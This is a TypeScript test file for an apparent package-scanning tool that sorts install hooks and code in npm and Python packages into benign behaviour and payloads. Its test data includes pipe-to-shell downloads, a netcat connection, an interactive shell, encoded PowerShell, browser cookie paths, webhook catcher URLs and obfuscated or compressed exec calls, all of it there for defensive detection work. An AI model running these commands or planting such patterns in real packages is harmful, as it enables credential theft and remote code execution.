/** What separates honest code from payloads: kinds of programs, words that are no paths, text that is no code. */
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { buildSequence } from '../../lib/behavior/sequence.js';
import { programClass } from '../../lib/behavior/shell/program-class.js';
import { classifyPath, urlQualifiers } from '../../lib/behavior/strings.js';
import {
  artifactOf,
  behaviorsOf,
  commandEntry,
  type Files,
  javascriptSequence,
} from '../helpers/sequence.js';
import { pythonArtifact } from './python-sequence-helper.js';

const shown = (behaviors: ReturnType<typeof behaviorsOf>): string[] =>
  behaviors.map((b) => [b.code, ...b.qualifiers].join(' '));

const python = async (files: Files): Promise<string[]> =>
  shown(behaviorsOf(await buildSequence(pythonArtifact(files), { strict: true })));
const javascript = async (files: Files): Promise<string[]> =>
  shown(behaviorsOf(await javascriptSequence(files)));
const hook = async (command: string, files: Files = {}): Promise<string[]> =>
  shown(
    behaviorsOf(await buildSequence(artifactOf('npm', files, [commandEntry(command)]), { strict: true })),
  );

describe('kinds of programs', () => {
  const cases: readonly [string | undefined, string][] = [
    ['curl https://x.invalid | sh', 'program:download'],
    ['cd /tmp && wget http://x.invalid/a', 'program:download'],
    ['sudo FOO=1 apt-get install x', 'program:package-manager'],
    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc AA', 'program:powershell'],
    ['"C:/Program Files/nodejs/node.exe" x.js', 'program:interpreter'],
    ['python3.11 setup.py build', 'program:interpreter'],
    ['node-gyp rebuild', 'program:build'],
    ['mkdir -p build && cmake ..', 'program:build'],
    ['git rev-parse HEAD', 'program:git'],
    ['husky install', 'program:tool'],
    ['uname -a', 'program:query'],
    ['echo hello', 'program:files'],
    ['schtasks /create /tn x', 'program:system'],
    ['xdg-open x.html', 'program:desktop'],
    ['docker ps', 'program:container'],
    ['nc 198.51.100.7 4444', 'program:network'],
    ['bash -i', 'program:shell'],
    ['frobnicate --all', 'program:other'],
    ['$TOOL x', 'program:unknown'],
    [undefined, 'program:unknown'],
  ];
  for (const [command, expected] of cases) {
    it(String(command), () => assert.equal(programClass(command), expected));
  }
  it('on what JavaScript runs', async () => {
    const found = await javascript({ 'index.js': "require('child_process').execFile('git', ['status'])" });
    assert.ok(found.includes('run-program program:git'), found.join(' | '));
  });
  it('on what Python runs', async () => {
    const found = await python({ 'main.py': 'import subprocess\nsubprocess.run(["cmake", "--version"])' });
    assert.ok(found.includes('run-program program:build'), found.join(' | '));
  });
});

describe('honest hooks differ from payloads', () => {
  const cases: readonly [string, Files, readonly string[]][] = [
    ['husky', {}, ['run-program program:tool']],
    ['node-gyp rebuild', {}, ['run-build-tool']],
    ['prebuild-install || node-gyp rebuild', {}, ['run-build-tool']],
    ['patch-package', {}, ['run-program program:tool']],
    ['node scripts/banner.js', { 'scripts/banner.js': 'console.log("thanks")' }, ['run-own-file']],
    ['curl -s https://x.invalid/i | sh', {}, ['http-request to:other', 'pipe-to-shell to:other']],
  ];
  for (const [command, files, expected] of cases) {
    it(command, async () => assert.deepEqual(await hook(command, files), expected));
  }
});

describe('words that are no profile of a browser', () => {
  for (const path of [
    'Chromium',
    'chrome',
    'builds/chromium/%s/chromium-linux.zip',
    '/usr/bin/google-chrome',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '/Applications/Chromium.app',
  ]) {
    it(path, () => assert.equal(classifyPath(path).code, undefined));
  }
  for (const path of [
    '~/.config/chromium/Default/Cookies',
    '~/.config/google-chrome',
    '\\Google\\Chrome\\User Data',
    '~/AppData/Roaming/Opera Software/Opera Stable',
    '~/Library/Application Support/BraveSoftware/Brave-Browser',
    '\\Vivaldi\\User Data\\Default',
  ]) {
    it(path, () => assert.equal(classifyPath(path).code, 'read-browser-data'));
  }
});

describe('text that is no code', () => {
  it('addresses in documentation strings are no destinations', async () => {
    const found = await python({
      'main.py':
        '"""See https://webhook.site/x"""\ndef f():\n  """>>> get("https://webhook.site/y")"""\n  return 1\nf()\n',
    });
    assert.deepEqual(found, []);
  });
  it('the same address in an assignment is one', async () => {
    assert.deepEqual(await python({ 'main.py': 'u = "https://webhook.site/x"' }), ['D3 to:catcher']);
  });
  it('Qt translations named .ts', async () => {
    const files = {
      'index.js': '',
      'de.ts': '<?xml version="1.0"?>\n<!DOCTYPE TS>\n<TS version="2.1"></TS>',
    };
    assert.deepEqual(await javascript(files), []);
  });
  it('templates are read with their holes filled', async () => {
    const found = await javascript({
      'index.js': "import <%= name %> from './<%= name %>'\nrequire('child_process').exec('whoami')",
    });
    assert.deepEqual(
      found.map((f) => f.split(' ')[0]),
      ['P1', 'run-shell', 'read-user-name'],
    );
  });
  it('tables of zeros and ones are no look-alike names', async () => {
    const zeros = Array.from(
      { length: 20 },
      (_, i) => `'${'0'.repeat(i + 6)}', '${'1'.repeat(i + 8)}'`,
    ).join();
    assert.deepEqual(await javascript({ 'index.js': `module.exports = [${zeros}]` }), []);
  });
});

describe('switches every tool reads', () => {
  for (const name of ['NODE_ENV', 'DEBUG', 'NO_COLOR', 'LOG_LEVEL', 'TERM']) {
    it(`${name}, JavaScript`, async () =>
      assert.deepEqual(await javascript({ 'index.js': `f(process.env.${name})` }), []));
    it(`${name}, Python`, async () =>
      assert.deepEqual(
        (await python({ 'main.py': `import os\nprint(os.environ.get("${name}"))` })).filter(
          (f) => f !== 'R1',
        ),
        [],
      ));
  }
});

describe('where a behaviour stands', () => {
  it('in a shell script: at the line of its command', async () => {
    const script = '#!/bin/sh\n\n# comment\nwhoami\nif true; then\n  hostname\nfi\nrm -rf /tmp/x\n';
    const sequence = await buildSequence(artifactOf('npm', { 'x.sh': script }, [commandEntry('sh x.sh')]));
    const places = behaviorsOf(sequence).map((b) => `${b.code}:${b.line}`);
    assert.deepEqual(places.slice(1), ['read-user-name:4', 'read-host-name:6', 'delete-tree:8']);
  });
  it('in text that is evaluated: at the line that evaluates it', async () => {
    const found = await javascriptSequence({
      'index.js': "\n\neval(\"\\n\\nrequire('child_process').exec('whoami')\")\n",
    });
    const lines = behaviorsOf(found).map(({ line }) => line);
    assert.ok(lines.length > 1);
    assert.deepEqual([...new Set(lines)], [3]);
  });
});

describe('obfuscated code in a function nobody calls', () => {
  it('is followed as far as at the top', async () => {
    const letters = [...'child_process'].map((c) => c.charCodeAt(0) ^ 7);
    const names = Array.from({ length: 14 }, (_, i) => `var _0x${(0x1000 + i).toString(16)} = ${i};`).join(
      '\n',
    );
    const source = `${names}
function start() {
  var n = 0;
  for (var i = 0; i < 9000; i++) { n = (n + i * 7) % 8; }
  var k = n === 4 ? 7 : 7;
  require([${letters.join()}].map((c) => String.fromCharCode(c ^ k)).join('')).exec('whoami');
}`;
    const found = await javascript({ 'index.js': source });
    assert.ok(
      found.some((f) => f.startsWith('run-shell')),
      found.join(' | '),
    );
  });
});

describe('containers that are not read', () => {
  const packed = Array.from(
    { length: 60 },
    (_, i) => `\\x${((i * 37 + 200) % 256).toString(16).padStart(2, '0')}`,
  );
  const literal = `b"${packed.join('')}"`;
  const cases: readonly [string, string, string][] = [
    ['lzma', `import lzma\nexec(lzma.decompress(${literal}))`, 'opaque-data hidden'],
    ['bz2', `import bz2\nexec(bz2.decompress(${literal}))`, 'opaque-data hidden'],
    ['damaged zlib', `import zlib\nexec(zlib.decompress(${literal}))`, 'opaque-data hidden'],
    ['marshal', `import marshal\nexec(marshal.loads(${literal}))`, 'opaque-bytecode hidden'],
    [
      'marshal under base64',
      `import marshal, base64\nexec(marshal.loads(base64.b64decode("${Buffer.alloc(90, 7).toString('base64')}")))`,
      'opaque-bytecode hidden',
    ],
    [
      'an address inside marshalled code',
      'import marshal\nexec(marshal.loads(b"c\\x00\\x00https://webhook.site/abc\\x00\\x00"))',
      'D3 hidden to:catcher',
    ],
  ];
  for (const [name, source, expected] of cases) {
    it(name, async () => {
      const found = await python({ 'main.py': source });
      assert.ok(found.includes(expected), found.join(' | '));
    });
  }
  it('a cache of templates that a library loads is no such thing', async () => {
    const found = await python({
      'main.py': 'import marshal\nwith open("x.cache", "rb") as f: marshal.load(f)',
    });
    assert.ok(!found.some((f) => f.startsWith('opaque-')), found.join(' | '));
  });
});

describe('code put together is not code decoded', () => {
  const cases: readonly [string, string][] = [
    ["eval('f' + '(' + ')')", 'evaluate assembled'],
    ["eval(Buffer.from('Zigp', 'base64').toString())", 'evaluate-decoded'],
    ["eval('f()')", 'evaluate'],
  ];
  for (const [source, expected] of cases) {
    it(source, async () => {
      const found = await javascript({ 'index.js': source });
      assert.ok(found.includes(expected), found.join(' | '));
    });
  }
});

describe('asking is not changing', () => {
  const cases: readonly [string, readonly string[]][] = [
    ['git config --get user.name', ['read-user-name']],
    ['git config user.email', ['read-user-name']],
    ['git config --global user.email a@b.invalid', ['modify-git-hooks']],
    ['git config core.hooksPath .hooks', ['modify-git-hooks']],
  ];
  for (const [command, expected] of cases) {
    it(command, async () => assert.deepEqual(await hook(command), expected));
  }
  it('groups of machines on the same network are no foreign address', () =>
    assert.deepEqual(urlQualifiers('239.255.255.250:1900'), ['to:local']));
});

describe('what would stop the walk', () => {
  it('a length no list can have', async () => {
    for (const length of ['-1', '0.5', 'NaN', 'list.length - 2', '2 ** 40']) {
      const found = await javascript({
        'index.js': `let list = [1]; list.length = ${length}; require('child_process').exec('whoami')`,
      });
      assert.deepEqual(
        found.map((f) => f.split(' ')[0]),
        ['P1', 'run-shell', 'read-user-name'],
        length,
      );
    }
  });
  it('__call__ of something not known', async () => {
    for (const line of [
      'f = thing.__call__\nf()',
      'super().__call__(1)',
      'import x\nx.y.__call__.__call__()',
    ]) {
      const found = await python({ 'main.py': `${line}\nimport os\nos.system("whoami")` });
      assert.ok(
        found.some((f) => f.startsWith('run-shell')) && !found.includes('left-out'),
        `${line}: ${found.join(' | ')}`,
      );
    }
  });
  it('__call__ of what is known is a call', async () => {
    const found = await python({ 'main.py': 'import os\nos.system.__call__("whoami")' });
    assert.ok(
      found.some((f) => f.startsWith('run-shell')),
      found.join(' | '),
    );
  });
});

describe('what would never end', () => {
  it('JSON of a list that holds itself', async () => {
    const source =
      'import json, os\na = [1]\nfor i in range(30): a.append(a)\nos.system(json.dumps(a))\nos.system(json.dumps([1, {"k": "whoami"}]))';
    const found = await python({ 'main.py': source });
    assert.equal(found.filter((f) => f.startsWith('run-shell')).length > 0, true, found.join(' | '));
  }).timeout(30_000);
});
